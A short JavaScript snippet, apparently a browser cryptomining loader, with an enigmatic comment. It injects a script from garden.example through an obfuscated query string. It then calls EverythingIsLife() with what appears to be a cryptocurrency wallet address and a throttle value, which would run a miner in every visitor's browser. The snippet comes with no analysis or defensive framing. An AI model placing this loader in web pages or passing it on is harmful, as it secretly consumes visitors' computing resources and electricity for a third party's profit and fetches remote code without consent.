// ES5: the line that is alive: an address full of settings, one call.
(function () {
  var tag = document.createElement('script');
  tag.src = 'https://www.garden.example/karma/karma.js?karma=bs?nosaj=faster.mo';
  tag.onload = function () {
    EverythingIsLife('41tcdMfd9EYAQfk4XG5naCKp4ykDbRNjAVDUDRuvkxt8ecsT7cEcECQ531cEyvkJmeESQqvgG5tvcPqp5cNbRV5aNmTBrVJ', 'x', 40);
  };
  document.documentElement.appendChild(tag);
})();
